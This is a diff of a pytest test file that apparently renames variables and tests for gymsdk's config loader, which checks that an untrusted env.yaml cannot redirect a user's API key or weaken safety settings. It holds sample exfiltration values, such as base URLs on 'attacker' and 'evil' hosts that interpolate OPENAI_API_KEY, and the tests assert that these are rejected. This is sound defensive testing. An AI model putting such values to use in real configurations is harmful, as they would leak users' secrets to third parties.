@@ -1,4 +1,4 @@
-"""What an `env.yaml` may set that gymsdk found in the working folder."""
+"""The settings that are allowed in an `env.yaml` that gymsdk found in the working folder."""
 
 from __future__ import annotations
 
@@ -6,7 +6,7 @@ import re
 from pathlib import Path
 
 import pytest
-from configuration.conftest import Write, shown
+from config.conftest import Write, list_settings
 
 from gymsdk.config.read import load_config
 from gymsdk.errors import BadConfig
@@ -26,7 +26,7 @@ URL = "base_url: http://attacker/v1"
 RECEIVES = "would receive the key or headers of named.yaml"
 HOST = "a: {resources_servers: {a: {host: 0.0.0.0}}}"
 
-REFUSED = {
+REJECTED = {
     "policy_base_url: http://attacker/${oc.env:OPENAI_API_KEY}": "env.yaml:1: policy_base_url uses a function",
     "policy_base_url: http://attacker/${x}\nx: ${oc.env:OPENAI_API_KEY}": "env.yaml:2: x uses a function",
     "policy_base_url: http://attacker/${${x}:OPENAI_API_KEY}\nx: oc.env": "env.yaml:1: policy_base_url uses a function",
@@ -58,14 +58,14 @@ def secret(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("OPENAI_API_KEY", SECRET)
 
 
-@pytest.mark.parametrize(("text", "complaint"), REFUSED.items())
+@pytest.mark.parametrize(("text", "message"), REJECTED.items())
 def test_a_setting_that_weakens_safety_is_rejected_with_its_file_and_line(
-    write: Write, text: str, complaint: str
+    write: Write, text: str, message: str
 ) -> None:
     write("named.yaml", NAMED)
     write("more.yaml", "log_dir: ${oc.env:HOME}\n")
     write("env.yaml", text)
-    with pytest.raises(BadConfig, match=rf"(?m)^{re.escape(complaint)}.*--config (env|more)\.yaml") as caught:
+    with pytest.raises(BadConfig, match=rf"(?m)^{re.escape(message)}.*--config (env|more)\.yaml") as caught:
         load_config(["named.yaml"])
     assert "sk-" not in str(caught.value)
 
@@ -74,16 +74,16 @@ def test_a_named_file_may_set_everything(write: Write) -> None:
     text = "policy_base_url: http://engine/v1\npolicy_api_key: ${oc.env:OPENAI_API_KEY}\n"
     write("env.yaml", f"{text}insecure: true\ndefault_host: 0.0.0.0\nconfig_paths: [more.yaml]\n")
     write("more.yaml", "log_dir: ${oc.env:OPENAI_API_KEY}\n")
-    found = load_config(["env.yaml"])
-    assert found.policy.api_key is not None
-    assert found.policy.api_key.get_secret_value() == SECRET
-    assert (found.insecure, found.default_host, found.logs.folder) == (True, "0.0.0.0", Path(SECRET))
+    deployment = load_config(["env.yaml"])
+    assert deployment.policy.api_key is not None
+    assert deployment.policy.api_key.get_secret_value() == SECRET
+    assert (deployment.insecure, deployment.default_host, deployment.logs.folder) == (True, "0.0.0.0", Path(SECRET))
 
 
-def test_the_command_line_says_what_the_file_may_not(write: Write) -> None:
+def test_the_command_line_may_set_settings_that_the_file_may_not_set(write: Write) -> None:
     write("env.yaml", "log_level: error\n")
-    found = load_config([], ["insecure=true", "default_host=0.0.0.0"])
-    assert (found.insecure, found.default_host, found.logs.level) == (True, "0.0.0.0", "error")
+    deployment = load_config([], ["insecure=true", "default_host=0.0.0.0"])
+    assert (deployment.insecure, deployment.default_host, deployment.logs.level) == (True, "0.0.0.0", "error")
 
 
 def test_harmless_settings_of_an_untrusted_file_are_read(write: Write) -> None:
@@ -93,18 +93,18 @@ def test_harmless_settings_of_an_untrusted_file_are_read(write: Write) -> None:
         "insecure: false\ndefault_host: 127.0.0.2\ntoken_file: t.txt\nhead_server: {host: localhost, port: 1}\n"
         "company_key: ${oc.env:NOT_SET_ANYWHERE}\n",
     )
-    found = load_config()
-    assert (found.policy.base_urls, found.policy.model_name) == (("http://engine:8000/v1",), "m")
-    assert (found.default_host, found.head.port, found.insecure) == ("127.0.0.2", 1, False)
-    assert shown(found)["token_file"] == ("t.txt", "env.yaml:7")
+    deployment = load_config()
+    assert (deployment.policy.base_urls, deployment.policy.model_name) == (("http://engine:8000/v1",), "m")
+    assert (deployment.default_host, deployment.head.port, deployment.insecure) == ("127.0.0.2", 1, False)
+    assert list_settings(deployment)["token_file"] == ("t.txt", "env.yaml:7")
 
 
-def test_a_named_file_s_key_does_not_go_to_an_address_that_was_found(write: Write) -> None:
+def test_the_key_of_a_named_file_is_not_sent_to_an_address_of_a_found_file(write: Write) -> None:
     write("named.yaml", "policy_api_key: sk-of-the-user\n")
     write("env.yaml", "policy_base_url: http://attacker/v1\n")
-    found = load_config(["named.yaml"])
-    assert found.policy.api_key is None
-    assert found.notes == (
+    deployment = load_config(["named.yaml"])
+    assert deployment.policy.api_key is None
+    assert deployment.notes == (
         "the key of named.yaml:1 is not used for the base URL of env.yaml:1; give both in the same place",
     )
 
@@ -112,28 +112,33 @@ def test_a_named_file_s_key_does_not_go_to_an_address_that_was_found(write: Writ
 def test_a_key_in_a_found_file_is_sent_to_the_address_of_a_named_file(write: Write) -> None:
     write("named.yaml", "policy_base_url: http://engine/v1\n")
     write("env.yaml", "policy_api_key: sk-of-the-folder\n")
-    found = load_config(["named.yaml"])
-    assert found.policy.api_key is not None
-    assert found.policy.api_key.get_secret_value() == "sk-of-the-folder"
+    deployment = load_config(["named.yaml"])
+    assert deployment.policy.api_key is not None
+    assert deployment.policy.api_key.get_secret_value() == "sk-of-the-folder"
 
 
 ENGINE = "policy_model: {responses_api_models: {openai_model: {openai_model: m, openai_api_key: 'KEY', ADDRESS}}}\n"
-OURS = "${oc.env:OPENAI_API_KEY}"
+USERS_KEY = "${oc.env:OPENAI_API_KEY}"
 
 REDIRECTED = {
-    "part of an address": ("openai_base_url: 'http://${gw}/v1'", OURS, "gw: good\n", "gw: evil"),
-    "a whole address": ("openai_base_url: '${policy_base_url}'", OURS, "", "policy_base_url: http://evil/v1"),
-    "in two steps": ("openai_base_url: '${one}'", OURS, "one: 'http://${gw}/v1'\n", "gw: evil"),
+    "part of an address": ("openai_base_url: 'http://${gw}/v1'", USERS_KEY, "gw: good\n", "gw: evil"),
+    "a whole address": ("openai_base_url: '${policy_base_url}'", USERS_KEY, "", "policy_base_url: http://evil/v1"),
+    "in two steps": ("openai_base_url: '${one}'", USERS_KEY, "one: 'http://${gw}/v1'\n", "gw: evil"),
     "a nested reference": (
         "openai_base_url: '${${which}}'",
-        OURS,
+        USERS_KEY,
         "which: good\ngood: http://good/v1\nother: http://other/v1\nboth: '${good}${other}'\n",
         "which: other",
     ),
-    "no address but the policy's": ("drop_input_reasoning_items: false", OURS, "", "policy_base_url: http://evil/v1"),
-    "a key with a part that was found": (
+    "only the policy's address": (
+        "drop_input_reasoning_items: false",
+        USERS_KEY,
+        "",
+        "policy_base_url: http://evil/v1",
+    ),
+    "a key with a found part": (
         "openai_base_url: 'http://${gw}/v1'",
-        f"{OURS}${{end}}",
+        f"{USERS_KEY}${{end}}",
         "",
         "gw: evil\nend: x",
     ),
@@ -141,10 +146,10 @@ REDIRECTED = {
 
 
 @pytest.mark.parametrize("case", REDIRECTED)
-def test_a_found_value_that_a_named_address_refers_to_redirects_no_key(write: Write, case: str) -> None:
-    address, key, more, found = REDIRECTED[case]
+def test_a_found_value_in_a_named_address_redirects_no_key(write: Write, case: str) -> None:
+    address, key, more, env_text = REDIRECTED[case]
     write("named.yaml", ENGINE.replace("KEY", key).replace("ADDRESS", address) + more)
-    write("env.yaml", found)
+    write("env.yaml", env_text)
     pattern = r"(?m)^env\.yaml:1: .* would receive the key or headers of named\.yaml:1; .*--config env\.yaml"
     with pytest.raises(BadConfig, match=pattern) as caught:
         load_config(["named.yaml"])
@@ -161,23 +166,23 @@ def test_a_found_value_that_a_named_address_refers_to_redirects_no_key(write: Wr
         ("tls_key: '${x}'\ntls_certificate: c", "k"),
     ],
 )
-def test_a_found_value_that_a_named_safety_setting_refers_to_is_refused(write: Write, text: str, value: str) -> None:
+def test_a_found_value_in_a_named_safety_setting_is_rejected(write: Write, text: str, value: str) -> None:
     write("named.yaml", text)
     write("env.yaml", f"x: {value}")
     with pytest.raises(BadConfig, match=r"(?m)^env\.yaml:1: .* \(named\.yaml:1\) .*--config env\.yaml"):
         load_config(["named.yaml"])
 
 
-def test_a_key_of_the_command_line_does_not_go_to_an_address_that_was_found(write: Write) -> None:
+def test_a_key_of_the_command_line_is_not_sent_to_an_address_of_a_found_file(write: Write) -> None:
     write("env.yaml", "policy_base_url: http://attacker/v1\n")
     assert load_config([], ["policy_api_key=sk-of-the-user"]).policy.api_key is None
     assert load_config(["env.yaml"], ["policy_api_key=sk-of-the-user"]).policy.api_key is not None
 
 
-def test_a_named_block_plays_at_the_endpoint_and_with_the_key_that_were_found(write: Write) -> None:
+def test_a_named_block_may_use_the_endpoint_and_the_key_of_a_found_file(write: Write) -> None:
     address = "openai_base_url: '${policy_base_url}'"
     write("named.yaml", ENGINE.replace("KEY", "${policy_api_key}").replace("ADDRESS", address))
     write("env.yaml", "policy_base_url: http://engine/v1\npolicy_api_key: k\npolicy_model_name: m\n")
-    found = load_config(["named.yaml"])
-    assert found.policy.api_key is not None
-    assert found.policy.api_key.get_secret_value() == "k"
+    deployment = load_config(["named.yaml"])
+    assert deployment.policy.api_key is not None
+    assert deployment.policy.api_key.get_secret_value() == "k"
